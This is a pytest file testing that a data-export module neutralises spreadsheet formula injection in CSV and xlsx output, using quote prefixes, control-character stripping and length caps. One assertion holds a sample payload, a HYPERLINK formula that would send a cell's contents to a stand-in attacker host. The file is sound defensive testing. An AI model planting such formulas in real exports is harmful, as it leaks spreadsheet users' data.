"""Spreadsheet safety: text that starts like a formula is written as text, in CSV and xlsx."""

from __future__ import annotations

import csv

import pytest

from thematic.export.safety import (
    FORMULA_START,
    guard_csv,
    looks_like_formula,
    set_cell,
    unguard_csv,
    xlsx_text,
)

DANGEROUS = [
    "=1+1",
    "+44 20",
    "-5 stars",
    "@SUM(A1:A9)",
    "\tindented",
    "\rcarriage",
    '=HYPERLINK("http://x")',
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_guard_prefixes_a_quote_and_round_trips(text):
    assert looks_like_formula(text)
    assert guard_csv(text) == "'" + text
    assert unguard_csv(guard_csv(text)) == text


@pytest.mark.parametrize("value", ["plain", "", "a=b", " =not first", 5, -5.0, None])
def test_csv_guard_leaves_the_rest_alone(value):
    assert guard_csv(value) == value


def test_every_documented_start_is_guarded():
    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("text", DANGEROUS)
def test_xlsx_cell_is_a_quote_prefixed_string(tmp_path, text):
    from openpyxl import Workbook, load_workbook

    wb = Workbook()
    set_cell(wb.active, 1, 1, text)
    set_cell(wb.active, 2, 1, "fine")
    set_cell(wb.active, 3, 1, 3.5)
    wb.save(tmp_path / "x.xlsx")
    ws = load_workbook(tmp_path / "x.xlsx").active
    # XML reads a bare carriage return back as a line feed; the cell is still quote-prefixed text
    assert ws["A1"].value == text.replace("\r", "\n") and ws["A1"].data_type == "s" and ws["A1"].quotePrefix
    assert ws["A2"].value == "fine" and not ws["A2"].quotePrefix
    assert ws["A3"].value == 3.5 and ws["A3"].data_type == "n"


def test_xlsx_text_drops_control_characters_and_caps_length():
    assert xlsx_text("a\x00b\x07c\td\ne") == "abc\td\ne"
    assert len(xlsx_text("x" * 40_000)) == 32_767


def test_exported_csv_and_xlsx_never_hold_a_formula(hostile, tmp_path):
    from openpyxl import load_workbook

    from thematic.export.units import export_units

    summary = export_units(hostile, tmp_path / "u.csv", coder="ana")
    assert summary.guarded >= 4
    with (tmp_path / "u.csv").open(encoding="utf-8-sig", newline="") as fh:
        texts = {row["respondent_id"]: row["text"] for row in csv.DictReader(fh)}
    assert texts["H02"].startswith("'=HYPERLINK(")
    assert (
        texts["H03"].startswith("'+44") and texts["H04"].startswith("'-1") and texts["H05"].startswith("'@")
    )
    export_units(hostile, tmp_path / "u.xlsx", coder="ana")
    ws = load_workbook(tmp_path / "u.xlsx")["units"]
    formulas = [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    guarded = {c.value for row in ws.iter_rows() for c in row if c.quotePrefix}
    assert '=HYPERLINK("http://evil.example/?x="&A1, "click me")' in guarded
